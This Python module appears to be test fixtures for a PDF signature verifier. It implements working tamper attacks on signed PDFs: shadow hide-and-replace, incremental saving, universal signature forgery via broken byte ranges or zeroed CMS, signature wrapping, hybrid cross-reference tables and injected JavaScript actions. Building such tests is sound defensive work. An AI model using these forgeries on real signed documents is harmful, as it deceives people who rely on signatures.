"""Attackers: each takes a signed file and returns one that a careless verifier would believe."""

import io
import re
from collections.abc import Callable

import pikepdf
from pyhanko.pdf_utils import embed, generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import SigFieldSpec, append_signature_field

name = generic.pdf_name


def changed(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    assert out.getvalue().startswith(pdf)
    return out.getvalue()


def attach_file(writer: IncrementalPdfFileWriter) -> None:
    data = embed.EmbeddedFileObject.from_file_data(writer, data=b"autre chose", mime_type="text/plain")
    embed.embed_file(writer, embed.FileSpec(file_spec_string="annexe.txt", embedded_data=data))


def overlay_text(writer: IncrementalPdfFileWriter) -> None:
    stream = generic.StreamObject(stream_data=b"q 1 0 0 rg 50 50 300 300 re f Q")
    writer.add_stream_to_page(0, writer.add_object(stream))


def add_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    page = generic.DictionaryObject(
        {
            name("/Type"): name("/Page"),
            name("/Parent"): writer.root.raw_get("/Pages"),
            name("/MediaBox"): generic.ArrayObject(generic.NumberObject(v) for v in (0, 0, 595, 842)),
            name("/Resources"): generic.DictionaryObject(),
        }
    )
    pages["/Kids"].append(writer.add_object(page))
    pages[name("/Count")] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.update_container(pages)
    writer.update_container(pages["/Kids"])


def annotate(writer: IncrementalPdfFileWriter) -> None:
    note = generic.DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/FreeText"),
            name("/Rect"): generic.ArrayObject(generic.NumberObject(v) for v in (50, 50, 300, 300)),
            name("/Contents"): generic.pdf_string("Les horaires sont 8 h – 20 h"),
            name("/DA"): generic.pdf_string("/Helv 12 Tf"),
        }
    )
    writer.register_annotation(writer.find_page_for_modification(0)[0], writer.add_object(note))


def run_javascript(writer: IncrementalPdfFileWriter) -> None:
    writer.root[name("/OpenAction")] = generic.DictionaryObject(
        {name("/S"): name("/JavaScript"), name("/JS"): generic.pdf_string("app.alert('x')")}
    )
    writer.update_root()


def add_text_field(writer: IncrementalPdfFileWriter) -> None:
    field = generic.DictionaryObject(
        {
            name("/FT"): name("/Tx"),
            name("/T"): generic.pdf_string("montant"),
            name("/V"): generic.pdf_string("1000"),
        }
    )
    writer.root["/AcroForm"]["/Fields"].append(writer.add_object(field))
    writer.update_container(writer.root["/AcroForm"]["/Fields"])


def add_signature_field(writer: IncrementalPdfFileWriter) -> None:
    append_signature_field(writer, SigFieldSpec("sig_intruder", on_page=0, box=(300, 300, 400, 350)))


def move_field(writer: IncrementalPdfFileWriter) -> None:
    for reference in writer.root["/AcroForm"]["/Fields"]:
        one = reference.get_object()
        if one["/T"] == "sig_host":
            one[name("/Rect")] = generic.ArrayObject(generic.NumberObject(v) for v in (0, 0, 500, 500))
            writer.update_container(one)


def repaint_stamp(writer: IncrementalPdfFileWriter) -> None:
    for reference in writer.root["/AcroForm"]["/Fields"]:
        one = reference.get_object()
        if one["/T"] == "sig_host":
            box = generic.ArrayObject(generic.NumberObject(v) for v in (0, 0, 240, 70))
            other = generic.StreamObject(
                {name("/Type"): name("/XObject"), name("/Subtype"): name("/Form"), name("/BBox"): box},
                stream_data=b"1 0 0 rg 0 0 240 70 re f",
            )
            one[name("/AP")] = generic.DictionaryObject({name("/N"): writer.add_object(other)})
            writer.update_container(one)


# -- more changes that an incremental update makes ----------------------------------------------------------------


def replace_content(writer: IncrementalPdfFileWriter) -> None:
    """Shadow attack, replace: the page gets another content, written as an update of the same object."""
    page = writer.root["/Pages"]["/Kids"][0]
    page[name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=b"BT ET"))
    writer.update_container(page)


def hide_with_layer(writer: IncrementalPdfFileWriter) -> None:
    """Shadow attack, hide: a layer that viewers may switch off."""
    layer = writer.add_object(
        generic.DictionaryObject({name("/Type"): name("/OCG"), name("/Name"): generic.pdf_string("x")})
    )
    layers = generic.ArrayObject([layer])
    writer.root[name("/OCProperties")] = generic.DictionaryObject(
        {name("/OCGs"): layers, name("/D"): generic.DictionaryObject({name("/OFF"): layers})}
    )
    writer.update_root()


def redirect_pages(writer: IncrementalPdfFileWriter) -> None:
    """Shadow attack, hide and replace: the catalogue points at another tree of as many pages."""
    old = writer.root["/Pages"]
    count = int(old["/Count"])
    kids = generic.ArrayObject()
    tree = writer.add_object(
        generic.DictionaryObject(
            {name("/Type"): name("/Pages"), name("/Kids"): kids, name("/Count"): generic.NumberObject(count)}
        )
    )
    for _ in range(count):
        box = generic.ArrayObject(generic.NumberObject(value) for value in (0, 0, 595, 842))
        page = {name("/Type"): name("/Page"), name("/Parent"): tree, name("/MediaBox"): box}
        kids.append(writer.add_object(generic.DictionaryObject(page)))
    writer.root[name("/Pages")] = tree
    writer.update_root()


def turn_page(writer: IncrementalPdfFileWriter) -> None:
    page = writer.root["/Pages"]["/Kids"][0]
    page[name("/Rotate")] = generic.NumberObject(180)
    writer.update_container(page)


def script_on_page(writer: IncrementalPdfFileWriter) -> None:
    page = writer.root["/Pages"]["/Kids"][0]
    action = {name("/S"): name("/JavaScript"), name("/JS"): generic.pdf_string("app.alert('x')")}
    page[name("/AA")] = generic.DictionaryObject({name("/O"): generic.DictionaryObject(action)})
    writer.update_container(page)


def use_xfa(writer: IncrementalPdfFileWriter) -> None:
    form = writer.root["/AcroForm"]
    form[name("/XFA")] = writer.add_object(generic.StreamObject(stream_data=b"<xdp/>"))
    writer.update_container(form)


def strip_signature(writer: IncrementalPdfFileWriter) -> None:
    """Take the last signature out of its field: the others stay good."""
    for reference in writer.root["/AcroForm"]["/Fields"]:
        one = reference.get_object()
        if "/V" in one and one["/T"] != "sig_seal_open":
            del one["/V"]
            writer.update_container(one)
            return


def same_range_twice(writer: IncrementalPdfFileWriter) -> None:
    """Let an empty field show a copy of another party's signature, byte range included."""
    fields = [reference.get_object() for reference in writer.root["/AcroForm"]["/Fields"]]
    value = next(one.raw_get("/V") for one in fields if "/V" in one)
    empty = next(one for one in fields if "/V" not in one)
    empty[name("/V")] = value
    writer.update_container(empty)


# -- attacks on the bytes themselves ------------------------------------------------------------------------------


def _edit_last(pdf: bytes, pattern: bytes, make: Callable[[re.Match], bytes]) -> bytes:
    """Replace the last match of ``pattern`` by as many bytes."""
    found = list(re.finditer(pattern, pdf, re.S))[-1]
    new = make(found)
    assert len(new) == len(found[0])
    return pdf[: found.start()] + new + pdf[found.end() :]


def forge_without_range(pdf: bytes) -> bytes:
    """Universal signature forgery: the last signature names no byte range."""
    return _edit_last(pdf, rb"/ByteRange ?\[", lambda found: found[0].replace(b"ByteRange", b"ByteRanje"))


def forge_null_range(pdf: bytes) -> bytes:
    """Universal signature forgery: a byte range that covers nothing."""
    return _edit_last(pdf, rb"/ByteRange ?\[[0-9 ]+\]", lambda found: b"/ByteRange [0 0 0 0]".ljust(len(found[0])))


def forge_without_contents(pdf: bytes) -> bytes:
    """Universal signature forgery: the last signature has no CMS."""
    return _edit_last(pdf, rb"/Contents ?<[0-9A-Fa-f]{100}", lambda found: found[0].replace(b"Contents", b"Contenus"))


def forge_zero_contents(pdf: bytes) -> bytes:
    """Universal signature forgery: a CMS of zeros."""
    return _edit_last(pdf, rb"<[0-9A-Fa-f]{400,}>", lambda found: b"<" + b"0" * (len(found[0]) - 2) + b">")


def save_again(pdf: bytes) -> bytes:
    """Incremental saving attack: an update that overwrites a page, without cross-reference to the signature."""
    return changed(pdf, overlay_text)


def save_without_trailer(pdf: bytes) -> bytes:
    """Incremental saving attack, variant: objects after the end, no table; viewers that rebuild it show them."""
    return pdf + b"4 0 obj\n<</Length 20>>stream\nq 1 0 0 rg 0 0 9 9 re f Q\nendstream endobj\n"


def wrap_signature(pdf: bytes) -> bytes:
    """Signature wrapping: the end of the signed bytes moves to the end of the file; between stands the attacker's.

    The table of objects that the moved end still names is written where it was, and leads to a copy of the signature
    that says where the signed bytes are now, and to an empty first page.
    """
    reader = PdfFileReader(io.BytesIO(pdf))
    embedded = reader.embedded_signatures[-1]
    _, length, rest, tail = (int(value) for value in embedded.byte_range)
    table_at = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    earlier = int(re.findall(rb"startxref\s+(\d+)", pdf)[-2])
    root = reader.trailer.raw_get("/Root").idnum
    signature = embedded.sig_field.raw_get("/V").idnum
    page = reader.root["/Pages"]["/Kids"].raw_get(0).idnum
    size = int(reader.trailer["/Size"])

    def wedge(moved_to: int) -> bytes:
        start = b"%d 0 obj <</Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached " % signature
        said = b"/ByteRange [0 %d %d %d]" % (length, moved_to, tail)
        own = start + said.ljust(60) + b"/Contents " + pdf[length:rest] + b">> endobj\n"
        blank = b"%d 0 obj <</Type /Page /MediaBox [0 0 9 9]>> endobj\n" % page
        at = table_at + 400
        table = b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (signature, at, page, at + len(own))
        table += b"trailer <</Size %d /Root %d 0 R /Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
            size,
            root,
            earlier,
            table_at,
        )
        return b" " * (table_at - rest) + table.ljust(400) + own + blank

    moved_to = rest + len(wedge(0))
    return pdf[:rest] + wedge(moved_to) + pdf[rest:]


def reuse_range(pdf: bytes) -> bytes:
    """Let the last signature claim the byte range of the one before."""
    ranges = re.findall(rb"/ByteRange ?(\[[0-9 ]+\])", pdf)
    return _edit_last(
        pdf, rb"/ByteRange ?\[[0-9 ]+\]", lambda found: (b"/ByteRange " + ranges[-2].strip()).ljust(len(found[0]))
    )


def make_hybrid(pdf: bytes) -> bytes:
    """Point at a second table of objects, which only some viewers read."""
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    root = re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]
    size = max(int(number) for number in re.findall(rb"/Size (\d+)", pdf))
    common = b"/Size %d /Root %s" % (size + 1, root)
    stream = b"%d 0 obj\n<</Type /XRef /W [1 2 1] /Index [0 1] /Length 4 %s>>" % (size, common)
    stream += b"stream\n\0\0\0\xff\nendstream\nendobj\n"
    table = b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (size, len(pdf))
    table += b"trailer\n<<%s /Prev %d /XRefStm %d>>\n" % (common, start, len(pdf))
    return pdf + stream + table + b"startxref\n%d\n%%%%EOF\n" % (len(pdf) + len(stream))


def encrypt(pdf: bytes) -> bytes:
    """Write the whole file anew under an empty password."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="x", user=""))
    return out.getvalue()


def rewrite(pdf: bytes) -> bytes:
    """Write the whole file anew, as « print to PDF » and many tools do: it looks the same."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        document.save(out)
    return out.getvalue()
